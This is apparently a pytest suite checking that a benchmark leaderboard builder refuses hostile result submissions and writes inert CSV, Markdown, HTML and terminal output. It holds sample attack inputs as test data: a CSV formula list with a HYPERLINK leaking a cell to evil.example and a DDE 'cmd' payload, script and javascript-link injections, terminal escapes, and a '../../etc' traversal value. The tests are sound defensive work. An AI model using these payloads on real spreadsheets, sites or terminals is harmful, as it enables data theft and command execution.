"""Hostile submissions (issue 11): nothing a submitter sends runs, leaks, crashes the build or ranks falsely.

Every hostile file is built here (tests/helpers/hostile_results.py). Each must be refused with a one-line reason while
the honest results are still ranked, from the Python API and from the CLI (exit codes and one-line reasons)."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import pytest
from headswapbench.leaderboard import build_site

from headswapbench.cli.main import main
from headswapbench.errors import HeadSwapBenchError
from tests.helpers.hostile_results import PWN_SCRIPT, SECRET, write_honest, write_hostile, write_report_attacks
from tests.helpers.leaderboard_fixtures import CHECKSUM, reference_with, results_for, with_fingerprint, write_run

pytestmark = pytest.mark.timeout(60)  # a FIFO that is opened for reading would hang here forever


def _refused_by_folder(doc: dict) -> dict[str, str]:
    return {Path(r["path"]).parent.name: r["reason"] for r in doc["refused"]}


def _site_text(site: Path) -> str:
    return "\n".join(p.read_text(errors="replace") for p in site.rglob("*") if p.is_file())


@pytest.fixture
def hostile(tmp_path):
    runs = tmp_path / "runs"
    honest = write_honest(runs)
    expect = write_hostile(runs, tmp_path / "outside")
    write_report_attacks(runs, tmp_path / "outside")
    return runs, honest, expect


def test_each_hostile_file_is_refused_with_its_reason_and_the_honest_ones_are_ranked(hostile, tmp_path):
    runs, honest, expect = hostile
    site = tmp_path / "site"
    doc = build_site([runs], site)
    (board,) = doc["boards"]
    assert [r["method"]["name"] for r in board["rows"]] == ["oracle", "warp", "noop"]  # not the private run
    refused = _refused_by_folder(doc)
    assert set(refused) == set(expect)
    for name, reason in expect.items():
        assert reason in refused[name], (name, refused[name])
    for r in doc["refused"]:
        assert "\n" not in r["reason"] and "\x1b" not in r["reason"] and len(r["reason"]) <= 500
    # the honest best keeps its place: the interval that did not contain its mean is not on the board
    assert board["rows"][0]["metrics"]["identity_cosine_ref"]["ci_rank"] == 1

    # nothing from a submission reached the site: no report (script or symlink), no secret, no script of theirs
    text = _site_text(site)
    assert SECRET not in text and PWN_SCRIPT not in text and "__pwned" not in text
    assert not any(p.name == "report.html" or p.is_symlink() for p in site.rglob("*"))
    assert {p.suffix for p in site.rglob("*") if p.is_file()} == {".html", ".json", ".csv", ".md"}


def test_cli_validate_and_build_report_each_file_in_one_line(hostile, tmp_path, capsys):
    runs, honest, expect = hostile
    assert main(["leaderboard", "validate", str(runs), "--json"]) == 2
    out, err = capsys.readouterr()
    rows = {Path(r["path"]).parent.name: r for r in json.loads(out)}
    assert {k for k, r in rows.items() if r["ok"]} == set(honest)
    assert all(expect[k] in rows[k]["problem"] for k in expect)
    assert f"{len(expect)} invalid or missing results file(s)" in err and "Traceback" not in err
    # the content hash printed is the sha256 of the file's bytes (what `sha256sum` prints)
    assert rows["warp"]["content_hash"] == hashlib.sha256(honest["warp"].read_bytes()).hexdigest()

    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "site")]) == 0
    out = capsys.readouterr().out
    assert f"{len(expect)} file(s) not ranked:" in out
    lines = out.splitlines()
    for name, reason in expect.items():
        assert sum(f"/{name}/results.json: " in line and reason in line for line in lines) == 1, name
    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "s2"), "--strict"]) == 2
    assert "refused (--strict)" in capsys.readouterr().err


def test_only_hostile_files_exit_2_and_write_nothing(tmp_path, capsys):
    runs = tmp_path / "runs"
    write_hostile(runs, tmp_path / "outside")
    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "site")]) == 2
    err = capsys.readouterr().err
    assert "no results could be ranked" in err and "nested more than 64 levels" in err and "Traceback" not in err
    assert not (tmp_path / "site").exists()


def test_overflowing_numbers_of_an_unknown_unit_still_render(tmp_path):
    """A unit without a range rule accepts any finite number; the page must still draw it (1e308 and its
    ±1e308 interval once overflowed the chart axis)."""
    runs = tmp_path / "runs"
    for name, mean, ci in (("huge", 1e308, [-1e308, 1e308]), ("tiny", 1.0, [0.5, 1.5])):
        r = results_for("warp", version=name)
        r["metrics"]["custom_score"] = with_fingerprint("custom_score", {
            "mean": mean, "ci95": ci, "n": 10, "higher_is_better": True, "unit": "widgets", "available": True})
        (runs / name).mkdir(parents=True)
        (runs / name / "results.json").write_text(json.dumps(r))
    # custom_score is no metric of offline-v1: the maintainers' reference names its fingerprint, so it ranks
    doc = build_site([runs], tmp_path / "site", sort_by="custom_score", references=[reference_with("custom_score")])
    assert [r["method"]["version"] for r in doc["boards"][0]["rows"]] == ["huge", "tiny"]
    html = (tmp_path / "site" / "index.html").read_text()
    chart = html[html.index('<figure class="chart" data-metric="custom_score"'):]
    chart = chart[: chart.index("</figure>")]
    assert "1e+308" in chart and "inf" not in chart.lower() and "nan" not in chart.lower()
    assert chart.count("<rect") == 2


# ------------------------------------------------------------------------------------------------------
# trust: decided by the maintainer, never by the files
# ------------------------------------------------------------------------------------------------------
def test_a_fake_checksum_majority_cannot_make_honest_results_another_dataset(tmp_path):
    runs = tmp_path / "runs"
    write_honest(runs)
    fake = "f" * 64
    for i in range(4):  # more files than the honest ones, all on a made-up dataset
        write_run(runs, f"fake{i}", results_for("warp", version=f"fake{i}", checksum=fake))
    doc = build_site([runs], tmp_path / "site")
    assert doc["refused"] == []  # no vote: nobody is "another dataset"
    boards = {b["dataset"]["checksum"]: b for b in doc["boards"]}
    assert [r["method"]["name"] for r in boards[CHECKSUM]["rows"]] == ["oracle", "warp", "noop"]
    assert len(boards[fake]["rows"]) == 4
    assert all(any(x.startswith("not pinned:") for x in b["labels"]) for b in doc["boards"])

    # the maintainer pins the reference (a printed 12-character prefix is enough): the fakes are refused
    doc = build_site([runs], tmp_path / "site", dataset_checksums=[CHECKSUM[:12]])
    (board,) = doc["boards"]
    assert board["dataset"]["checksum"] == CHECKSUM and board["pinned"]["dataset_checksum"]
    assert [r["method"]["name"] for r in board["rows"]] == ["oracle", "warp", "noop"]
    assert sorted(_refused_by_folder(doc)) == [f"fake{i}" for i in range(4)]
    assert all("is not the maintainers' reference 9f2caaaaaaaa (--dataset-checksum)" in r["reason"]
               for r in doc["refused"])


def test_self_declared_verified_is_a_claim_and_only_the_maintainers_list_verifies(tmp_path, capsys):
    runs = tmp_path / "runs"
    honest = write_honest(runs)
    liar = write_run(runs, "liar", results_for("warp", version="liar", verified=True))
    site = tmp_path / "site"
    doc = build_site([runs], site)
    rows = {r["method"]["version"]: r for r in doc["boards"][0]["rows"]}
    assert rows["liar"]["verified"] is False and rows["liar"]["provenance"]["claimed_verified"] is True
    html = (site / "index.html").read_text()
    assert "verified by the maintainers" not in html.replace("not on the maintainers", "")
    assert "claims to be verified, but it is not on the maintainers&#x27; list" in html
    with open(site / "leaderboard.csv", newline="") as fh:
        assert {x["verified"] for x in csv.DictReader(fh) if x["version"] == "liar"} == {"False"}
    assert "self-reported (claims verified)" in (site / "leaderboard.md").read_text()

    # the maintainers verify the honest oracle by its content hash (a 16-character prefix, as printed)
    listed = tmp_path / "verified.txt"
    oracle_hash = hashlib.sha256(honest["oracle"].read_bytes()).hexdigest()
    listed.write_text(f"# verified by the maintainers\n{oracle_hash[:16]}  oracle, re-run 2026-11-30\n\n")
    assert main(["leaderboard", "build", str(runs), "--out", str(site), "--verified", str(listed), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    status = {m["version"] + m["method"]: m["status"] for m in data["boards"][0]["methods"]}
    assert status["1oracle"].startswith("verified") and status["liarwarp"].startswith("self-reported (claims")
    assert data["verification"] == {"rule": "--verified", "listed": 1, "matched": 1}
    assert liar.exists()


def test_hash_prefixes_unique_ambiguous_and_too_short(tmp_path, capsys):
    runs = tmp_path / "runs"
    write_run(runs, "a", results_for("warp", checksum="abcd1234" + "0" * 56))
    write_run(runs, "b", results_for("noop", checksum="abcd1234" + "1" * 56))
    doc = build_site([runs], tmp_path / "s", dataset_checksums=["abcd12341"])
    assert [b["dataset"]["checksum"] for b in doc["boards"]] == ["abcd1234" + "1" * 56]
    with pytest.raises(HeadSwapBenchError, match="--dataset-checksum abcd1234: ambiguous prefix, matches abcd12340"):
        build_site([runs], tmp_path / "s", dataset_checksums=["abcd1234"])
    with pytest.raises(HeadSwapBenchError, match="too short, give at least 8 characters"):
        build_site([runs], tmp_path / "s", dataset_checksums=["abcd"])
    # the 12 characters the page and the CLI print are enough, in either case
    doc = build_site([runs], tmp_path / "s", dataset_checksums=["ABCD12341111"])
    assert [b["dataset"]["checksum"] for b in doc["boards"]] == ["abcd1234" + "1" * 56]
    assert [Path(r["path"]).parent.name for r in doc["refused"]] == ["a"]
    # the settings hash is no longer a reference: the flag is retired with one line saying what replaced it
    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "s"), "--settings-hash", "abcd1234"]) == 2
    err = capsys.readouterr().err
    assert "--settings-hash is retired" in err and "fingerprint" in err and "Traceback" not in err
    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "s"), "--verified",
                 str(tmp_path / "missing.txt")]) == 2
    assert "--verified" in capsys.readouterr().err
    (tmp_path / "short.txt").write_text("abcd12341234\n")
    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "s"), "--verified",
                 str(tmp_path / "short.txt")]) == 2
    assert "too short, give at least 16 characters" in capsys.readouterr().err


def test_files_disagreeing_on_a_direction_leave_that_metric_unranked(tmp_path):
    runs = tmp_path / "runs"
    write_run(runs, "oracle", results_for("oracle"))
    flipped = results_for("noop")
    flipped["metrics"]["pose_error"]["higher_is_better"] = True  # deg has no direction rule of its own
    (runs / "flipped").mkdir()
    (runs / "flipped" / "results.json").write_text(json.dumps(flipped))
    doc = build_site([runs], tmp_path / "site")
    board = doc["boards"][0]
    assert any(x.startswith("not ranked: pose_error: the results disagree on its direction") for x in board["labels"])
    assert all("rank" not in r["metrics"]["pose_error"] for r in board["rows"])
    assert all("rank" in r["metrics"]["psnr"] for r in board["rows"])


# ------------------------------------------------------------------------------------------------------
# exports: no formula cells, no Markdown/HTML injection, no terminal escapes
# ------------------------------------------------------------------------------------------------------
NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
         "\tx", "\rx", "-0.5"]


def test_csv_never_writes_a_formula_and_keeps_negative_numbers_numeric(tmp_path):
    runs = tmp_path / "runs"
    for i, name in enumerate(NAMES):
        r = results_for("warp", version=str(i))
        r["method"]["name"] = name
        r["metrics"]["signed"] = with_fingerprint("signed", {"mean": -1.25, "ci95": [-1.5, -1.0], "n": 10,
                                                             "higher_is_better": True, "available": True})
        (runs / f"m{i}").mkdir(parents=True)
        (runs / f"m{i}" / "results.json").write_text(json.dumps(r))
    build_site([runs], tmp_path / "site")
    with open(tmp_path / "site" / "leaderboard.csv", newline="") as fh:
        lines = list(csv.DictReader(fh))
    methods = {x["method"] for x in lines}
    assert methods == {"'" + n for n in NAMES[:-1]} | {"-0.5"}  # a plain number stays a number
    assert all(not x["method"].startswith(("=", "+", "@", "\t", "\r")) for x in lines)
    signed = [x for x in lines if x["metric"] == "signed"]
    assert {x["mean"] for x in signed} == {"-1.25"} and {x["ci95_lo"] for x in signed} == {"-1.5"}


def test_markdown_and_terminal_output_are_inert(tmp_path, capsys):
    runs = tmp_path / "runs"
    r = results_for("warp")
    r["method"]["name"] = f"{PWN_SCRIPT} a|b\n# injected heading\n\x1b[2J[link](javascript:alert(1))"
    r["method"]["version"] = "`code` *bold*"
    r["dataset"]["revision"] = "<b>rev</b>\n## injected revision"
    (runs / "evil").mkdir(parents=True)
    (runs / "evil" / "results.json").write_text(json.dumps(r))
    write_run(runs, "noop", results_for("noop"))
    assert main(["leaderboard", "build", str(runs), "--out", str(tmp_path / "site")]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2J" in out  # the escape sequence is printed, not executed
    md = (tmp_path / "site" / "leaderboard.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "\n# injected" not in md and not any(line.startswith(("# injected", "## injected")) for line in md.splitlines())
    assert "<b>" not in md and "&lt;b&gt;rev&lt;/b&gt; ## injected revision" in md
    row = next(line for line in md.splitlines() if "injected heading" in line)
    assert row.count(" | ") == row.replace("\\|", "").count(" | ")  # the | in the name is escaped
    assert "a\\|b" in row and "\\[link\\](javascript:alert(1))" in row and "\\`code\\` \\*bold\\*" in row
    html = (tmp_path / "site" / "index.html").read_text()
    assert PWN_SCRIPT not in html and "&lt;script&gt;window.__pwned" in html
    details = next((tmp_path / "site" / "details").rglob("*.html")).parent
    assert all(PWN_SCRIPT not in p.read_text() for p in details.iterdir())


def test_build_refuses_unsafe_hash_flags_by_name(tmp_path):
    runs = tmp_path / "runs"
    write_honest(runs)
    with pytest.raises(HeadSwapBenchError, match="not a hexadecimal hash"):
        build_site([runs], tmp_path / "s", dataset_checksums=["../../etc"])


def test_look_alike_boards_never_share_detail_pages(tmp_path):
    """A made-up checksum with the honest one's first 8 characters (board ids carry 8) must not overwrite the
    honest board's detail pages or anchors."""
    runs = tmp_path / "runs"
    write_run(runs, "honest", results_for("warp"))
    write_run(runs, "twin", results_for("warp", version="1", checksum=CHECKSUM[:8] + "b" * 56))
    doc = build_site([runs], tmp_path / "site")
    ids = [b["id"] for b in doc["boards"]]
    assert ids[1] == ids[0] + "-2"  # same name, split and 8-character prefixes: the second id is numbered
    pages = [r["details"] for b in doc["boards"] for r in b["rows"]]
    assert len(set(pages)) == 2 and all((tmp_path / "site" / p).is_file() for p in pages)
